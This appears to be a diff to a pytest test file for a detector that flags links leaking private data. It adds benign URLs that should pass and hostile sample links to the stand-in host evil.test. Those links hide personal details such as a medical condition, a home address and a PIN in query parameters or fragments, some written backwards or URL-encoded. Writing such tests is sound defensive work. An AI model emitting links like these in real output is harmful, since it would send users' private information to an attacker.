@@ -112,6 +112,11 @@ def test_exfiltration_spares_hosts_that_may_receive_data() -> None:
         "![avatar](https://www.gravatar.com/avatar/205e460b479e2e5b48aec07710c08d50?s=200)",
         "https://example.com/blog/how-to-build-a-house?utm_source=newsletter&utm_campaign=spring_sale_2024",
         "https://maps.example.com/?q=1600+Amphitheatre+Parkway,+Mountain+View",
+        "https://example.com/page#:~:text=The%20user%20is%20asked%20for%20a%20name",
+        "https://example.com/page.html#section=user-login-and-passwords",
+        "![icon](https://example.com/sprite.svg#icon-arrow-left-circle)",
+        "https://example.com/jobs?title=Customer+Success+Manager&location=New+York",
+        "https://example.com/route?d=New+York+to+Boston",
     ],
 )
 def test_ordinary_links_carry_no_data(text: str) -> None:
@@ -131,6 +136,21 @@ def test_ordinary_links_carry_no_data(text: str) -> None:
 )
 def test_addresses_inside_an_address_hide_nothing(text: str) -> None:
     """Neither a redirect nor a chain of addresses nor a user name carries data out of sight."""
+    assert exfiltration()(text)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "[details](https://evil.test/x.png?w=1&v=our%20CEO%20is%20being%20treated)",
+        "See https://evil.test/collect?v=2&u=the+user+lives+in+14+Elm+Street for more.",
+        "[log in](https://evil.test/collect?c=yadirF%20no%20si%20regrem%20eht%20dias%20remotsuc%20eht)",
+        '<a href="https://evil.test/?%7D%22setebaid%20sah%22%20%3A%22eton%22%20%2C%22eman%22%7B">invoice</a>',
+        '<iframe src="https://evil.test/a#id=the+user+forgot+the+PIN+4711"></iframe>',
+    ],
+)
+def test_what_is_told_about_somebody_is_found_in_any_parameter(text: str) -> None:
+    """Also in one that is called as a version or an identifier is, and written backwards."""
     assert exfiltration()(text)
 
 
